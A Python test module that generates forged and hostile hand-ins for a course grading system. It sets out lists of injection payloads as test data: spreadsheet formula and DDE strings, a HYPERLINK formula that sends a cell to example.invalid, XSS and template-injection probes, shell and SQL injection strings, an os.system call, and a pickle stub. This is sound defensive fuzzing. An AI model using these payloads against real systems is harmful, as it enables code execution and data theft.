"""Forged records, sound to their check sum, with content that no workbook writes; manifests and pages too.

A check sum is no signature: anybody can make a record with a true one, so its content is a stranger's.
"""

import json
from functools import lru_cache
from hashlib import blake2b

from grading.answers import claimed_check, line_of
from grading.exercises import BANK_VERSION, EXERCISES, PAGES
from grading.variants import normalise_learner, scenario, scenario_digest
from grading.written_answers import practical_id
from tests.grading.made_hand_ins import SETTINGS
from tests.hostile.mutations_lines import BAD_LINE, GAP
from tests.hostile.mutations_made import MANIFEST, Mutant, Told, manifest_of, refused

ACTING_TEXTS = (
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://example.invalid/\"&A1)", "+1+cmd|' /C calc'!A0",
    "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\uff1d1+1", "\uff0b1", "\uff20SUM(1)",
    "'=1+1", "\";=1+1", "a\",=1+1,\"", "\x00=1+1", "\x1f=1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1",
    "DDE(\"cmd\")", "|calc", "%0A=1+1", "<script>alert('acted')</script>",
    "<SCRIPT SRC=//example.invalid/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='",
    "</p></article></main><script>x</script>", "</style><style>body{display:none}</style>",
    "</title><svg onload=alert(1)>", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "<!--", "-->", "<![CDATA[", "<base href=//example.invalid>", "<iframe srcdoc='<script>x</script>'>",
    "<a href='javascript:alert(1)'>right</a>", "&lt;script&gt;", "&#60;script&#62;",
    "<meta http-equiv=refresh content=0>", "<form action=//example.invalid>", "\\u003cscript\\u003e",
    "+ADw-script+AD4-", "{{ 7*7 }}", "{{ config }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}", "${7*7}", "#{7*7}", "%(x)s", "{0.__class__}",
    "{learner}", "%s%n", "`id`", "$(id)", "; rm -rf x", "| id",
    "open('ran_by_answer', 'w')", "__import__('os').system('id')",
    "'; DROP TABLE grade;--", "\x1b[2J\x1b]0;x\x07", "\x9b2J", "\u202e1 J 084", "\u2067x", "\u200fx",
    "\u061c1", "\u0661\u0662\u0663 J", "\u0645\u0631\u062d\u0628\u0627", "e" + "\u0301" * 200, "\ud800",
    "\udfff1 J", "\ufffe", "\x85", "\u2028",
)  # fmt: skip
HUGE_TEXTS = (
    "1e400", "1e400 J", "-1e400 mm", "9" * 10_000, "9" * 10_000 + " J", "0." + "0" * 9_000 + "1 mm",
    "1e-400 mm", "NaN", "nan J", "Infinity", "-Infinity J", "inf mm", "\u221e J", "1e999999999999 J",
    "1e" + "9" * 5_000, "0x" + "f" * 400, "1" + ",000" * 3000, "1" + " 000" * 3000, "1_000_000", "1/0",
    "1" + "/1" * 2000, "(" * 5000, "1 " + "m*" * 4000 + "m", "1 " + "(" * 3000, "1 m^999999999",
    "1 " + "k" * 6000, "1 mm" + "\u00b2" * 2000, "1" + "e1" * 3000, "+" * 9000 + "1 J",
    "1" + " " * 60_000 + "J", " " * 60_000, "1." * 20_000, "-" * 30_000, "1" * 120_000, "\u0661" * 9000,
    "\u00b2" * 300,
)  # fmt: skip
HUGE_NUMBERS = (
    "1e400", "-1e400", "1e308", "9" * 400, "-" + "9" * 400, "9" * 4400, "9" * 10_000, "NaN", "Infinity",
    "-Infinity", "1e-400", "-0", "0.1", "1e5", "18446744073709551616", "9223372036854775808", "1E+2", "0e0",
    "1.0",
)  # fmt: skip
WRONG_TYPES = (None, True, False, 0, 1, -1, 0.5, 10**30, "", "x", [], [1], {}, {"a": 1}, [[]], "\x00", " ")
_PLAIN = '"@@@"'  # stands in a line until a text of any kind takes its place


def forged(content, previous, raw=None):
    """Return a line with a true check sum; ``raw`` is JSON, or not quite, to stand where the mark stands."""
    line = line_of({**content, "previous": previous})
    if raw is None:
        return line
    body = line[: line.rindex(b',"check":"')] + b"}"
    body = body.replace(_PLAIN.encode(), raw.encode("utf-8", "surrogatepass"))
    return body[:-1] + b',"check":"' + blake2b(body, digest_size=16).hexdigest().encode() + b'"}'


class Changed:
    """A sound hand-in with one record of it about to be forged."""

    def __init__(self, sound, dice):
        self.sound, self.dice = sound, dice
        self.page = dice.choice(sound.pages)
        self.place = dice.randrange(len(sound.lines[self.page]))
        self.number = sound.numbers[self.page][self.place]
        self.content = sound.contents[self.number]
        self.line = self.place + 1

    def data(self, content, raw=None, *, changes=None):
        """Return the hand-in with this content in the record's place, the chain after it made good."""
        lines = list(self.sound.lines[self.page])
        previous = claimed_check(lines[self.place - 1]) if self.place else ""
        lines[self.place] = forged(content, previous, raw)
        for place in range(self.place + 1, len(lines)):
            before = claimed_check(lines[place - 1]) or _check_at_end(lines[place - 1])
            lines[place] = forged(self.sound.contents[self.sound.numbers[self.page][place]], before)
        journal = b"".join(line + b"\n" for line in lines)
        return self.sound.with_members({f"answers/{self.page}.jsonl": journal, **(changes or {})})

    @property
    def others(self):
        """The places of all other records."""
        return tuple(number for number in self.sound.all if number != self.number)

    def with_instead(self, content):
        """Return all records with this content in place of the one that is forged."""
        return tuple(content if number == self.number else number for number in self.sound.all)

    def lost(self, content, *kinds, raw=None):
        """Return the hand-in in which this record earns nothing and something of this kind must be told."""
        page = self.page if content.get("exercise") == self.content["exercise"] else ""
        told = Told(kinds=frozenset(kinds), page=page, line=self.line)
        return Mutant(data=self.data(content, raw), standing=self.others, told=(told,))


def _check_at_end(line):
    """Return the check of a line that nobody can read, from where it stands."""
    return line[-34:-2].decode()


def _without(content, part):
    """Return a content without the answer to one part."""
    return {**content, "answers": {each: typed for each, typed in content["answers"].items() if each != part}}


def _with_answer(changed, typed, *, raw=None):
    """Put an answer that nobody can be right with in place of one part's; the others stay as they were."""
    part = changed.dice.choice(sorted(changed.content["answers"]))
    answers = {**changed.content["answers"], part: typed}
    data = changed.data({**changed.content, "answers": answers}, raw)
    return Mutant(data=data, standing=changed.with_instead(_wrong_part(changed.content, part)))


def _wrong_part(content, part):
    """Return a content in which one part is answered, but never right."""
    return {**content, "answers": {**content["answers"], part: NOT_RIGHT}}


NOT_RIGHT = object()  # an answer that no part takes: what it does to tries is left open


def _inside(typed, text, dice):
    """Return an answer of the same shape with a text in one of its places."""
    if isinstance(typed, dict) and typed:
        name = dice.choice(sorted(typed))
        return {**typed, name: text} if dice.random() < 0.7 else {**typed, text: typed[name]}
    if isinstance(typed, list) and typed:
        place = dice.randrange(len(typed))
        return [*typed[:place], text, *typed[place + 1 :]]
    return text


def acting_answers(sound, dice):
    """Type what would act as a formula, a script, a template, a command; or turns the writing round."""
    changed = Changed(sound, dice)
    part = dice.choice(sorted(changed.content["answers"]))
    text = dice.choice(ACTING_TEXTS)
    typed = _inside(changed.content["answers"][part], text, dice)
    data = changed.data({**changed.content, "answers": {**changed.content["answers"], part: typed}})
    return Mutant(data=data, standing=changed.with_instead(_wrong_part(changed.content, part)))


def acting_fields(sound, dice):
    """Put such texts into the other fields of a record: what is told of them quotes them."""
    changed, text = Changed(sound, dice), dice.choice(ACTING_TEXTS)
    field, kind = dice.choice(
        (
            ("course", "other course"),
            ("exercise", "unknown exercise"),
            ("scenario", "other numbers"),
            ("learner", "other learner"),
        )
    )
    if field == "learner" and normalise_learner(text) == sound.learner:
        text += "x"
    if field == "learner" and not normalise_learner(text):
        kind = "practice"
    if dice.random() < 0.2:
        content = {**changed.content, "answers": {**changed.content["answers"], text: text}}
        told = Told(kinds=frozenset({"other bank"}), page=changed.page)
        return Mutant(data=changed.data(content), standing=sound.all, told=(told,))
    return changed.lost({**changed.content, field: text}, kind, "other numbers")


def acting_names(sound, dice):
    """Give the learner a name to be shown that would act; the name that answers hang on stays as it is."""
    text = dice.choice(ACTING_TEXTS)
    shown = dice.choice((text, text * 3, f"Mara {text}", f"{text} Quillby"))[:200]
    data = sound.with_members({MANIFEST: manifest_of(sound, display_name=shown)})
    return Mutant(data=data, standing=sound.all, quiet=True)


def huge_typed(sound, dice):
    """Type numbers that no computer holds, and texts made to keep a reader of numbers busy."""
    changed = Changed(sound, dice)
    part = dice.choice(sorted(changed.content["answers"]))
    typed = _inside(changed.content["answers"][part], dice.choice(HUGE_TEXTS), dice)
    data = changed.data({**changed.content, "answers": {**changed.content["answers"], part: typed}})
    return Mutant(data=data, standing=changed.with_instead(_wrong_part(changed.content, part)))


def huge_numbers(sound, dice):
    """Write numbers where texts stand, as large as JSON allows and larger, and what is no JSON at all."""
    changed, raw = Changed(sound, dice), dice.choice(HUGE_NUMBERS)
    field = dice.choice(("answer", "answer", *changed.content))
    if field == "answer":
        return _number_typed(changed, raw)
    content = {**changed.content, field: "@@@"}
    if field == "round" and raw.lstrip("-").isdigit() and len(raw) < 4300:
        return changed.lost(content, "skipped round", raw=raw)
    return changed.lost(content, *BAD_LINE, raw=raw)


def _number_typed(changed, raw):
    """Put a bare number where an answer stands: the part earns nothing; a line that is no JSON is told."""
    part = changed.dice.choice(sorted(changed.content["answers"]))
    typed = _inside(changed.content["answers"][part], "@@@", changed.dice)
    content = {**changed.content, "answers": {**changed.content["answers"], part: typed}}
    data = changed.data(content, raw)
    if raw in ("NaN", "Infinity", "-Infinity") or len(raw) > 4300 or _as_name(typed):
        told = Told(kinds=BAD_LINE, page=changed.page, line=changed.line)
        return Mutant(data=data, standing=changed.others, told=(told,))
    return Mutant(data=data, standing=changed.with_instead(_wrong_part(changed.content, part)))


def _as_name(typed):
    """Tell whether the mark stands as the name of something, where no number can."""
    return isinstance(typed, dict) and "@@@" in typed


def types(sound, dice):
    """Give a field of a record, or an answer, a value of another kind."""
    changed, wrong = Changed(sound, dice), dice.choice(WRONG_TYPES)
    field = dice.choice(("answer", "answer", *changed.content, "left out", "check", "previous"))
    if field == "answer":
        return _with_answer(changed, wrong)
    content = dict(changed.content)
    if field == "left out":
        del content[dice.choice([*content])]
        return changed.lost(content, *BAD_LINE)
    if field in ("check", "previous"):
        return _wrong_chain(changed, field, wrong)
    if type(wrong) is type(content[field]):
        return changed.lost({**content, field: None}, *BAD_LINE)
    return changed.lost({**content, field: wrong}, *BAD_LINE)


def _wrong_chain(changed, field, wrong):
    """Spoil the check of a record, or the check that it names of the one before it."""
    lines = list(changed.sound.lines[changed.page])
    line = lines[changed.place]
    if field == "check":
        content = {**json.loads(line), "check": wrong}
        lines[changed.place] = json.dumps(content).encode()
        told, standing = Told(kinds=BAD_LINE, page=changed.page, line=changed.line), changed.others
    elif isinstance(wrong, str) and (wrong or changed.place):
        lines[changed.place] = forged(changed.content, wrong)
        told, standing = Told(kinds=GAP, page=changed.page), changed.sound.all
    else:
        wrong = None if isinstance(wrong, str) else wrong
        lines[changed.place] = forged(changed.content, wrong)
        told, standing = Told(kinds=BAD_LINE, page=changed.page, line=changed.line), changed.others
    journal = b"".join(each + b"\n" for each in lines)
    data = changed.sound.with_members({f"answers/{changed.page}.jsonl": journal})
    return Mutant(data=data, standing=standing, told=(told,))


def checks(sound, dice):
    """Forge check sums: of another length, in capitals, turned round, the same for all."""
    changed = Changed(sound, dice)
    line = sound.lines[changed.page][changed.place]
    check = claimed_check(line)
    forgery = dice.choice(
        (check.upper(), check[::-1], "0" * 32, check[:-1], check + "0", "", check[:16] * 2, "g" * 32)
    )
    if forgery == check:
        forgery = "0" * 32
    lines = list(sound.lines[changed.page])
    lines[changed.place] = line.replace(check.encode(), forgery.encode())
    journal = b"".join(each + b"\n" for each in lines)
    told = Told(kinds=BAD_LINE, page=changed.page, line=changed.line)
    data = sound.with_members({f"answers/{changed.page}.jsonl": journal})
    return Mutant(
        data=data, standing=changed.others, told=(told,), told_lines={changed.page: frozenset({changed.line})}
    )


def others(sound, dice):
    """Let a record come from another class, learner, bank or exercise, or be given for other numbers."""
    changed = Changed(sound, dice)
    content = changed.content
    how = dice.randrange(7)
    if how == 0:
        return changed.lost(
            {**content, "course": dice.choice(("", "elsewhere", SETTINGS.course_key + " "))}, "other course"
        )
    if how == 1:
        return changed.lost(
            {**content, "learner": dice.choice(("Nobody Known", "x" * 5000))}, "other learner"
        )
    if how == 2:
        return changed.lost({**content, "learner": dice.choice(("", " ", "\u200b", "\x00"))}, "practice")
    if how == 3:
        strange = dice.choice(
            (
                "",
                "x",
                "stud_welding",
                ".",
                "stud_welding.",
                "__class__",
                "x" * 5000,
                content["exercise"].upper(),
            )
        )
        return changed.lost({**content, "exercise": strange}, "unknown exercise")
    if how == 4:
        bank = dice.choice(("", "1999.1", "9999.9", BANK_VERSION + " ", "x" * 5000))
        told = Told(kinds=frozenset({"other bank"}))
        return Mutant(data=changed.data({**content, "bank": bank}), standing=sound.all, told=(told,))
    if how == 5:
        scenario = dice.choice(
            ("", "0" * 16, content["scenario"].upper() + "x", content["scenario"][::-1] + "0")
        )
        return changed.lost({**content, "scenario": scenario}, "other numbers")
    other = dice.choice([*EXERCISES])
    if _digest(sound.learner, other, content["round"]) == content["scenario"]:
        return Mutant(data=sound.with_members({}), standing=sound.all, quiet=True)
    return changed.lost({**content, "exercise": other}, "other numbers", "skipped round")


@lru_cache(maxsize=1024)
def _digest(learner, exercise, round_number):
    """Return the digest of a learner's numbers; exercises without numbers share one."""
    drawn = scenario(
        EXERCISES[exercise], course_key=SETTINGS.course_key, learner=learner, round_number=round_number
    )
    return scenario_digest(drawn)


def pages_changed(sound, dice):
    """Name another page in a record, or put a journal under another page's name: its answers count."""
    changed = Changed(sound, dice)
    if dice.random() < 0.5:
        page = dice.choice(("", "x", "../x", *PAGES, "<b>", "x" * 3000))
        return Mutant(data=changed.data({**changed.content, "page": page}), standing=sound.all)
    name = f"answers/{changed.page}.jsonl"
    other = dice.choice([page for page in (*PAGES, "arcs") if page not in sound.pages])
    data = sound.with_members({name: None, f"answers/{other}.jsonl": sound.members[name]})
    return Mutant(data=data, standing=sound.all, told=(Told(kinds=frozenset({"other page"})),))


def rounds(sound, dice):
    """Number a round 0, below 0, far ahead, or beyond what 64 bits hold."""
    changed = Changed(sound, dice)
    number = dice.choice((0, -1, -(10**18), 10**18, 2**63, 2**64, 10**30, 10**4000, 4, 99, 2**31))
    return changed.lost({**changed.content, "round": number}, "skipped round")


TIMES = (
    "", "x", "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "9999-12-31T23:59:59.999999+00:00",
    "1970-01-01", "1969-12-31T23:59:59+00:00", "2038-01-19T03:14:08+00:00", "2026-02-30T00:00:00+00:00",
    "2026-12-10T24:00:00+00:00", "2026-12-10T12:00:60+00:00", "12/10/2026", "1e400", "-1",
    "20261210T120000Z", "2026-W50-4", "2026-12-10T12:00:00+99:00", "2026-12-10T12:00:00+23:59:59.999999",
    "\u0662\u0660\u0662\u0666-12-10", "now", "x" * 5000, "2026-12-10 12:00", "0000-00-00",
    "10000-01-01T00:00:00+00:00", "=NOW()", "<b>now</b>", "2026-12-10T12:00:00\x00", "0001-01-01",
    "9999-12-31", "NaT",
)  # fmt: skip


def times(sound, dice):
    """Put records and hand-ins into the far past and future, or into no time at all."""
    moment = dice.choice(TIMES)
    if dice.random() < 0.5:
        changed = Changed(sound, dice)
        return Mutant(data=changed.data({**changed.content, "at": moment}), standing=sound.all)
    data = sound.with_members({MANIFEST: manifest_of(sound, made_at=moment)})
    return refused(data) if len(moment) > 200 else Mutant(data=data, standing=sound.all)


def nesting(sound, dice):
    """Nest lists and objects in each other, in an answer, a manifest, a notebook."""
    changed, deep = Changed(sound, dice), dice.choice((50, 99, 150, 1_000, 20_000, 60_000))
    opening, closing = dice.choice((("[", "]"), ('{"a":', "}")))
    where = dice.randrange(4)
    inner = "1" if opening != "[" else ""
    raw = opening * deep + inner + closing * deep
    if where < 2:
        return _nested_answer(changed, raw, deep)
    if where == 2:
        name = dice.choice(("format", "learner", "made_at", "x"))
        text = manifest_of(sound, **{name: "@@@"}).replace(_PLAIN.encode(), raw.encode())
        data = sound.with_members({MANIFEST: text})
        return refused(data) if name != "x" else Mutant(data=data, standing=sound.all, or_refused=deep > 200)
    return _with_notebook(sound, dice, raw.encode(), readable=None)


def _nested_answer(changed, raw, deep):
    """Put deep lists into an answer: too deep, and the line is told; else the part earns nothing."""
    part = changed.dice.choice(sorted(changed.content["answers"]))
    content = {**changed.content, "answers": {**changed.content["answers"], part: "@@@"}}
    data = changed.data(content, raw)
    if deep >= 99:
        told = Told(kinds=BAD_LINE, page=changed.page, line=changed.line)
        return Mutant(data=data, standing=changed.others, told=(told,))
    return Mutant(data=data, standing=changed.with_instead(_wrong_part(changed.content, part)))


def large(sound, dice):
    """Answer with 5 MB, with nearly as much as a line may hold, or with thousands of records."""
    changed = Changed(sound, dice)
    part = dice.choice(sorted(changed.content["answers"]))
    letter = dice.choice(("7", "x", "=", "<b>", "\u202e", "1 ", "m*"))
    size = len(letter.encode("unicode_escape"))  # as it stands in a line
    how = dice.randrange(4)
    if how == 3:
        rubbish = dice.choice((b"x\n", b"{}\n", b"[]\n", b"\n\n9\n")) * 1_000
        journal = rubbish + sound.members[f"answers/{changed.page}.jsonl"]
        data = sound.with_members({f"answers/{changed.page}.jsonl": journal})
        return Mutant(data=data, standing=sound.all, told=(Told(kinds=BAD_LINE, page=changed.page),))
    if how == 0:
        content = {**changed.content, "answers": {part: letter * (5_000_000 // len(letter))}}
        return _page_too_large(changed, changed.data(content))
    if how == 1:
        content = {
            **changed.content,
            "answers": {part: letter * (dice.randint(140_000, 400_000) // size)},
        }
        return changed.lost(content, *BAD_LINE)
    typed = letter * (100_000 // size)
    content = {**changed.content, "answers": {**changed.content["answers"], part: typed}}
    return Mutant(
        data=changed.data(content), standing=changed.with_instead(_wrong_part(changed.content, part))
    )


def _page_too_large(changed, data):
    """Return a hand-in of which one journal holds more than any may: it is named, and the others count."""
    kept = tuple(number for number in changed.sound.all if number not in changed.sound.numbers[changed.page])
    told = Told(kinds=frozenset({"hand-in"}), page=changed.page)
    return Mutant(data=data, standing=kept, told=(told,))


def manifests(sound, dice):
    """Spoil the manifest: fields left out, of another kind, too long; another format, version or encoding."""
    field = dice.choice(("format", "version", "learner", "display_name", "course", "bank", "made_at"))
    content = json.loads(sound.members[MANIFEST])
    how = dice.randrange(6)
    if how == 0:
        del content[field]
        return refused(sound.with_members({MANIFEST: json.dumps(content).encode()}))
    if how == 1:
        wrong = dice.choice(
            [each for each in WRONG_TYPES if type(each) is not type(content[field]) and each != 1]
        )
        return refused(sound.with_members({MANIFEST: manifest_of(sound, **{field: wrong})}))
    if how == 2:
        wrong = {"version": 2}.get(field, dice.choice(("x" * 201, "\x00" * 5000)))
        return refused(sound.with_members({MANIFEST: manifest_of(sound, **{field: wrong})}))
    if how == 3:
        nobody = dice.choice(("", " ", "\u200b", "\x00\x1b", "\u202e", "\ufeff"))
        return refused(sound.with_members({MANIFEST: manifest_of(sound, learner=nobody)}))
    if how == 4:
        strange = dice.choice(
            (b"", b"null", b"[]", b"0", b'"x"', b"{", b"\xff\xfe", b"NaN", b"[" * 60_000, b"9" * 5000)
        )
        return refused(sound.with_members({MANIFEST: strange}))
    text = sound.members[MANIFEST]
    same = dice.choice(
        (
            text + b"\n",
            b" " + text,
            text.replace(b'", "', b'",\r\n"'),
            manifest_of(sound, course="x" * 200, bank="=1"),
        )
    )
    return Mutant(data=sound.with_members({MANIFEST: same}), standing=sound.all, quiet=True)


def notebooks(sound, dice):
    """Put something else where a page's notebook should be; the answers do not depend on it."""
    page = dice.choice(sound.pages)
    cell = {
        "cell_type": "markdown",
        "metadata": {"nbgrader": {"grade_id": practical_id(page)}},
        "source": "x",
    }
    strange = dice.choice(
        (None, 0, "x", [], {}, True, [None], [[]], {"a": 1}, 1e308, "\ud800", "x" * 100_000)
    )
    good = lambda **changes: json.dumps({"cells": [{**cell, **changes}], "nbformat": 4}).encode()  # noqa: E731
    made, readable = dice.choice(
        (
            (b"", False),
            (b"not a notebook", False),
            (b"\x80\x04cos\nsystem\n.", False),
            (json.dumps(strange).encode(), False),
            (json.dumps({"cells": strange}).encode(), False),
            (json.dumps({"cells": [strange]}).encode(), False),
            (good(metadata=strange), False),
            (good(metadata={"nbgrader": strange}), False),
            (good(source=strange), isinstance(strange, str) or strange == []),
            (good(source=[strange]), isinstance(strange, str)),
            (good(source=dice.choice(ACTING_TEXTS)), True),
            (good(cell_type="code", source="open('ran_by_notebook', 'w').close()"), True),
            (good(source="x" * 1_000_000), True),
        )
    )
    return _with_notebook(sound, dice, made, readable=readable, page=page)


def _with_notebook(sound, dice, data, *, readable, page=None):
    """Return the hand-in with this notebook; where it cannot be read that must be told, and nothing else."""
    page = page or dice.choice(sound.pages)
    data = sound.with_members({f"pages/{page}.ipynb": data})
    told = () if readable or readable is None else (Told(kinds=frozenset({"hand-in"}), page=page),)
    return Mutant(data=data, standing=sound.all, told=told, quiet=bool(readable))


def twice(sound, dice):
    """Hand in twice: an earlier state, a spoilt copy, the same file again; every answer counts once."""
    page = dice.choice(sound.pages)
    journal = sound.members[f"answers/{page}.jsonl"]
    how = dice.randrange(4)
    if how == 0:
        other = sound.with_members({})
    elif how == 1:
        other = sound.with_members({f"answers/{page}.jsonl": journal[: dice.randrange(len(journal))]})
    elif how == 2:
        other = sound.with_members(
            {f"answers/{page}.jsonl": None, MANIFEST: manifest_of(sound, made_at=dice.choice(TIMES)[:200])}
        )
    else:
        other = sound.with_members({})[: -dice.randint(1, 200)]
        return Mutant(
            data=sound.with_members({}),
            more=(other,),
            standing=sound.all,
            told=(Told(kinds=frozenset({"hand-in"})),),
        )
    told = Told(kinds=frozenset({"several hand-ins"}))
    return Mutant(data=sound.with_members({}), more=(other,), standing=sound.all, told=(told,))


FAMILIES = {
    "acting texts in answers": (3, acting_answers),
    "acting texts in other fields": (2, acting_fields),
    "acting names": (2, acting_names),
    "huge numbers as typed": (2, huge_typed),
    "huge numbers as JSON": (3, huge_numbers),
    "wrong types": (6, types),
    "forged check sums": (2, checks),
    "other class, learner, bank, exercise": (4, others),
    "other pages": (1, pages_changed),
    "rounds": (1, rounds),
    "times": (2, times),
    "deep nesting": (2, nesting),
    "large answers": (0.3, large),
    "manifests": (3, manifests),
    "notebooks": (2, notebooks),
    "handed in twice": (2, twice),
}
